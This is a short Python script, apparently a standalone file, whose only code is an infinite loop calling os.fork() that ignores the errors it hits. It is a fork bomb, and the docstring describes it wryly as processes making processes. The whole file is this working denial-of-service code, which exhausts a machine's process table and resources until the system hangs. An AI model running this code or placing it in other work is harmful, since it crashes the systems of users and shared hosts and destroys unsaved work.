"""Processes that make processes, and do not mind that they cannot."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
